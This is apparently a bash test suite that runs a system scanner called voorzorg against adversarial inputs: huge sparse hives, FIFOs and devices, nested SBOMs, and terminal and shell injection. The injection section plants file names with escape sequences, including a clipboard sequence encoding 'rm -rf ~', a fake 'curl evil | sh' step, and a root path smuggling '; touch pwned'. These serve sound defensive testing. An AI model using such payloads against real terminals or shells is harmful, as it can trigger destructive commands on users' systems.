#!/usr/bin/env bash
#
# tests/hostile/hostile.sh - `voorzorg` against inputs an adversary
# prepared (issue 10), one section per class of attack. Each case failed
# on the code before the fix: a crash, a hang (caught by `timeout`), a
# read outside the root, a device replaced, raw control characters, a
# refused valid input, or a wrong exit code.
#
# Prints "ok"/"FAIL" per check and ends with "N passed, M failed".
. "$VZ_SOURCE_ROOT/tests/verify/lib.sh"

vz=$VOORZORG
wcat=$VZ_SOURCE_ROOT/tests/win/catalog.json
scat=$VZ_SOURCE_ROOT/tests/scan/catalog.json
mkhive=$VZ_SOURCE_ROOT/tests/win/mkhive.py
# Every command gets a deadline: a hang is a failure, not a stuck suite.
T="timeout 30"

# scan_root NAME ROOT CATALOG [OPTIONS]: scan into $TMP/out and $TMP/err.
scan_root() {
	local name=$1 root=$2 c=$3
	shift 3
	$T "$vz" scan --root "$root" --catalog "$c" --allow-unsigned "$@" \
		>"$TMP/out" 2>"$TMP/err"
	echo $? >"$TMP/rc"
}
# rc_is NAME CODE...: the last scan_root exited with one of CODEs.
rc_is() {
	local name=$1 got c
	shift
	got=$(cat "$TMP/rc")
	for c in "$@"; do
		if [ "$got" = "$c" ]; then ok "$name"; return; fi
	done
	bad "$name (exit $got, wanted $*)"
	sed 's/^/     | /' "$TMP/out" "$TMP/err" | head -20
}

# ---- 1. hives: size lies, truncation ------------------------------------
win=$TMP/win
cfg=$win/Windows/System32/config
mkdir -p "$cfg"
"$PY" "$mkhive" "$cfg/SYSTEM" >/dev/null
"$PY" "$mkhive" "$cfg/SOFTWARE" >/dev/null
# A valid header on a sparse 1 TB file: hivex would allocate by its size.
truncate -s 1T "$cfg/SOFTWARE"
scan_root "sparse 1 TB hive: the scan finishes" "$win" "$wcat" \
	--format text
rc_is "sparse 1 TB hive: no out-of-memory exit" 0 1 4
expect_grep "sparse 1 TB hive: an unreadable item with its reason" \
	"registry hive too large" "$TMP/out"
"$PY" "$mkhive" "$TMP/big.hive" >/dev/null
truncate -s 1T "$TMP/big.hive"
expect_exit "--hive on a sparse 1 TB hive: exit 2" 2 \
	$T "$vz" scan --hive "$TMP/big.hive" --catalog "$wcat" --allow-unsigned
expect_grep "--hive on a sparse 1 TB hive: says why" "too large" "$TMP/err"

# ---- 3. FIFOs, sockets and devices where files are expected ------------
bcat=$VZ_SOURCE_ROOT/catalog/voorzorg.json
fifo=$TMP/fifo
mkfifo "$fifo"
expect_exit "FIFO as the catalogue (lint): refused, no hang" 2 \
	$T "$vz" catalog lint "$fifo"
expect_grep "FIFO as the catalogue: says so" "not a regular file" "$TMP/err"
expect_exit "FIFO as --catalog (scan): refused, no hang" 2 \
	$T "$vz" scan --hive "$TMP/big.hive" --catalog "$fifo"
expect_grep "FIFO as --catalog: says so" "not a regular file" "$TMP/err"
mkdir -p "$TMP/sig"
cp "$bcat" "$TMP/sig/cat.json"
mkfifo "$TMP/sig/cat.json.minisig"
expect_exit "FIFO as the .minisig: refused, no hang" 2 \
	$T "$vz" catalog verify "$TMP/sig/cat.json"
expect_grep "FIFO as the .minisig: says so" "not a regular file" "$TMP/err"
expect_exit "FIFO as --pubkey: refused, no hang" 2 \
	$T "$vz" catalog verify --pubkey "$fifo" "$bcat"
expect_grep "FIFO as --pubkey: says so" "not a regular file" "$TMP/err"
mkdir -p "$TMP/st"
mkfifo "$TMP/st/state.json"
VOORZORG_STATE_DIR=$TMP/st expect_exit \
	"FIFO as the state file: refused (exit 3), no hang" 3 \
	$T "$vz" catalog verify "$bcat"
expect_grep "FIFO as the state file: says so" "not a regular file" \
	"$TMP/err"

lin=$TMP/lin
mkdir -p "$lin/var/lib/dpkg" "$lin/var/lib/rpm"
mkfifo "$lin/var/lib/dpkg/status" "$lin/var/lib/rpm/rpmdb.sqlite"
scan_root "FIFO as dpkg status and rpmdb: the scan finishes" "$lin" \
	"$scat" --format text
rc_is "FIFO as dpkg status and rpmdb: no hang, no error exit" 0 1 4
expect_grep "FIFO as dpkg status: 'not a regular file'" \
	"dpkg: unreadable: not a regular file.*var/lib/dpkg/status" "$TMP/out"
expect_grep "FIFO as the rpmdb: 'not a regular file'" \
	"rpm: unreadable: not a regular file.*rpmdb.sqlite" "$TMP/out"

w2=$TMP/w2
mkdir -p "$w2/Windows/System32/config" "$w2/Users/bob"
mkfifo "$w2/Windows/System32/config/SYSTEM"
"$PY" -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1])' \
	"$w2/Windows/System32/config/SOFTWARE"
mkfifo "$w2/Users/bob/NTUSER.DAT"
scan_root "FIFO and socket as hives: the scan finishes" "$w2" "$wcat" \
	--format text
rc_is "FIFO and socket as hives: no hang, no error exit" 0 1 4
# Problems are counted by reason, with the first example.
expect_grep "socket as SOFTWARE, FIFOs as SYSTEM and NTUSER.DAT: three \
unreadable items, not 'not applicable'" \
	"hive: unreadable: not a regular file: 3 (first: .*SOFTWARE)" \
	"$TMP/out"

# ---- 6. terminal and shell injection --------------------------------------
inj=$TMP/inj
mkdir -p "$inj/opt/kaspersky/kesl" "$inj/etc"
# Names a path fingerprint (/opt/kaspersky/kesl/lib*) matches: a title
# and clipboard sequence, a fake numbered step, the byte 0xFF, and the
# four characters \xff.
touch "$inj/opt/kaspersky/kesl/lib"$'\e]0;owned\a\e]52;c;cm0gLXJmIH4=\a'
touch "$inj/opt/kaspersky/kesl/lib"$'\n    9. curl evil | sh'
touch "$inj/opt/kaspersky/kesl/lib"$'\xff'
touch "$inj/opt/kaspersky/kesl/lib\\xff"
printf 'PRETTY_NAME="Debian\e[2J\e[H"\nNAME=x\n' >"$inj/etc/os-release"
printf 'host\e]0;pwned\a\n' >"$inj/etc/hostname"
scan_root "injection root: the scan finishes" "$inj" "$scat" --format text
rc_is "injection root: exit 0, 1 or 4" 0 1 4
if LC_ALL=C grep -q $'[\x01-\x09\x0b-\x1f\x7f]' "$TMP/out"; then
	bad "text report: no control character from the scanned data"
	LC_ALL=C grep -n $'[\x01-\x09\x0b-\x1f\x7f]' "$TMP/out" | cat -v | head -5
else
	ok "text report: no control character from the scanned data"
fi
expect_grep "text report: ESC shown as \\x1b" 'lib\\x1b\]0;owned' "$TMP/out"
if grep -q '^    9\. curl' "$TMP/out"; then
	bad "text report: a newline in a name cannot fake a next step"
else
	ok "text report: a newline in a name cannot fake a next step"
fi
# The byte and the four characters differ, and the rm names each exactly.
expect_grep "text report: byte 0xFF as \\xff" 'kesl/lib\\xff' "$TMP/out"
expect_grep "text report: the text \\xff with its backslash doubled" \
	'kesl/lib\\\\xff' "$TMP/out"
expect_grep "next step: the byte 0xFF in \$'...' quoting" \
	"kesl/lib\\\\377'" "$TMP/out"
expect_grep "next step: the text \\xff exactly" \
	"kesl/lib\\\\134xff'" "$TMP/out"
# Every suggested command names the root shell-quoted.
# shellcheck disable=SC2016
r2=$TMP/'r; touch pwned'
cp -a "$inj" "$r2"
rm -f "$r2"/opt/kaspersky/kesl/lib?*
touch "$r2/opt/kaspersky/kesl/libx"
scan_root "root with shell syntax: the scan finishes" "$r2" "$scat" \
	--format text
rc_is "root with shell syntax: exit 1 (present)" 1
expect_grep "next step: the root in single quotes" \
	"rm -r -- '$TMP/r; touch pwned/opt/kaspersky/kesl/libx'" "$TMP/out"

# ---- 10. minor: reasons, exit codes, limits ----------------------------
mkdir -p "$TMP/sf"
touch "$TMP/sf/file"
VOORZORG_STATE_DIR=$TMP/sf/file/sub expect_exit \
	"VOORZORG_STATE_DIR under a file: exit 3 (environment)" 3 \
	$T "$vz" catalog verify "$bcat"
expect_grep "VOORZORG_STATE_DIR under a file: says why" "Not a directory" \
	"$TMP/err"
if [ "$(id -u)" = 0 ] && command -v runuser >/dev/null; then
	mkdir -p "$TMP/pub/unr"
	chmod 755 "$TMP" "$TMP/pub"
	chmod 000 "$TMP/pub/unr"
	cp "$vz" "$TMP/pub/vz"
	cp "$scat" "$TMP/pub/cat.json"
	chmod 644 "$TMP/pub/cat.json"
	runuser -u nobody -- env VOORZORG_STATE_DIR="$TMP/pub/st" \
		$T "$TMP/pub/vz" scan --root "$TMP/pub/unr" \
		--catalog "$TMP/pub/cat.json" --allow-unsigned \
		>"$TMP/out" 2>"$TMP/err"
	rc=$?
	if [ "$rc" = 2 ]; then ok "unreadable root: exit 2"; else
		bad "unreadable root: exit 2 (got $rc)"; fi
	expect_grep "unreadable root: the reason is given" \
		"cannot open the root: Permission denied" "$TMP/err"
fi
"$PY" - "$TMP" <<'PYEOF'
import json, sys
def nest(n):
    c = {"type": "library", "name": "leaf", "version": "1"}
    for i in range(n):
        c = {"type": "library", "name": "lvl%d" % i, "version": "1",
             "components": [c]}
    return {"bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1,
            "components": [c]}
for n in (24, 127, 200):
    json.dump(nest(n), open("%s/cdx%d.json" % (sys.argv[1], n), "w"),
              indent=1)
PYEOF
for n in 24 127; do
	expect_exit "CycloneDX nested $n levels: accepted" 0 \
		$T "$vz" scan --sbom "$TMP/cdx$n.json" --catalog "$wcat" \
		--allow-unsigned
done
expect_exit "CycloneDX nested 200 levels: refused" 2 \
	$T "$vz" scan --sbom "$TMP/cdx200.json" --catalog "$wcat" \
	--allow-unsigned
expect_grep "CycloneDX nested 200 levels: the limit is named" \
	"nested more than 128 levels deep" "$TMP/err"
# The JSON path is shortened by whole names, never cut in a word.
expect_grep "CycloneDX nested 200 levels: path cut at a name" \
	': components\.\.\.\.components\(\[0\]\.components\)*\[0\]: ' "$TMP/err"

# ---- 5. --output: devices, FIFOs, modes, write errors --------------------
mkdir -p "$TMP/hv"
hive=$TMP/hv/SOFTWARE
"$PY" "$mkhive" "$hive" >/dev/null
scan_out() { # scan_out OUTPUT: scan one small hive into OUTPUT
	$T "$vz" scan --hive "$hive" --catalog "$wcat" --allow-unsigned \
		--format json --output "$1" >"$TMP/out" 2>"$TMP/err"
}
if [ "$(id -u)" = 0 ]; then
	# Private copies of /dev/null and /dev/full: the real ones must
	# never be at risk from the code before the fix.
	mknod "$TMP/null" c 1 3 && mknod "$TMP/full" c 1 7
	scan_out "$TMP/null"
	if [ $? = 0 ] && [ -c "$TMP/null" ]; then
		ok "--output onto /dev/null: written in place, still a device"
	else
		bad "--output onto /dev/null: written in place, still a device"
	fi
	scan_out "$TMP/full"
	rc=$?
	if [ $rc = 3 ] && [ -c "$TMP/full" ]; then
		ok "--output onto /dev/full: exit 3, still a device"
	else
		bad "--output onto /dev/full: exit 3, still a device (exit $rc)"
	fi
	expect_grep "--output onto /dev/full: says why" \
		"No space left on device" "$TMP/err"
fi
mkfifo "$TMP/report.fifo"
$T cat "$TMP/report.fifo" >"$TMP/from-fifo" &
reader=$!
scan_out "$TMP/report.fifo"
rc=$?
wait $reader
[ $rc = 0 ] && ok "--output onto a FIFO: exit 0" ||
	bad "--output onto a FIFO: exit 0 (exit $rc)"
if [ -p "$TMP/report.fifo" ] && grep -q '"findings"' "$TMP/from-fifo"; then
	ok "--output onto a FIFO: the reader gets the report, still a FIFO"
else
	bad "--output onto a FIFO: the reader gets the report, still a FIFO"
fi
echo old >"$TMP/private.json"
chmod 0600 "$TMP/private.json"
scan_out "$TMP/private.json"
rc=$?
[ $rc = 0 ] && ok "--output onto an existing 0600 report: exit 0" ||
	bad "--output onto an existing 0600 report: exit 0 (exit $rc)"
if [ "$(stat -c %a "$TMP/private.json")" = 600 ] &&
	grep -q '"findings"' "$TMP/private.json"; then
	ok "--output onto an existing 0600 report: replaced, still 0600"
else
	bad "--output onto an existing 0600 report: replaced, still 0600 ($(stat -c %a "$TMP/private.json"))"
fi
scan_out -
rc=$?
[ $rc = 0 ] && ok "--output -: exit 0" || bad "--output -: exit 0 (exit $rc)"
if grep -q '"findings"' "$TMP/out" && [ ! -e ./- ]; then
	ok "--output -: standard output"
else
	bad "--output -: standard output"
fi

finish
